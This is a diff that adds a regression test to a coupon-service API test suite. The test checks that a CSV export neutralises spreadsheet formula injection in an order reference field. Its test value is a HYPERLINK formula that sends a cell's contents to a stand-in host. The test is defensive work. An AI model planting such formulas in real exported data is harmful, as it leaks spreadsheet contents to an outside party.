@@ -3,6 +3,10 @@ the envelope (found by review; these tests fail on the old code)."""
 
 from __future__ import annotations
 
+import csv
+import io
+from datetime import UTC, datetime, timedelta
+
 from tests.api import Api, token
 
 STORE = {"name": "店", "city": "上海市", "lat": 31.2, "lng": 121.4}
@@ -83,3 +87,23 @@ def test_a_merge_patch_that_changes_a_read_only_field_is_refused(api: Api, admin
     read = api.get(f"/coupon-templates/{tid}", as_=admin).body
     assert api.call("PATCH", f"/coupon-templates/{tid}", {"status": read["status"], "title": "改"},
                     as_=admin).status == 200
+
+
+def test_an_order_ref_that_is_a_formula_is_exported_as_text(api: Api, admin: str) -> None:
+    """`order_ref` is what a POS sent; in the CSV HQ opens in a spreadsheet,
+    `=HYPERLINK(...)` was written as-is and ran as a formula."""
+    from tests.functional.test_coupons_api import claim, template
+
+    api.put("/stores/s1", STORE, as_=admin)
+    now = datetime.now(UTC)
+    tid = api.post("/coupon-templates", template(min_spend_fen=0, claim_start=(now - timedelta(days=1)).isoformat(),
+                                                 claim_end=(now + timedelta(days=1)).isoformat()),
+                   as_=admin).body["template_id"]
+    code = claim(api, tid, "s1", token("member", "m1")).body["code"]
+    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
+    assert api.post("/redemptions", {"code": code, "order_ref": evil}, as_=token("staff", "st1", "s1")).status == 201
+    reply = api.get("/stores/s1/redemptions/export", as_=admin)
+    assert reply.status == 200
+    rows = list(csv.DictReader(io.StringIO(reply.body.lstrip("\ufeff"))))
+    assert [r["order_ref"] for r in rows] == ["'" + evil]
+    assert rows[0]["discount_fen"] == "1000"  # numbers stay numbers
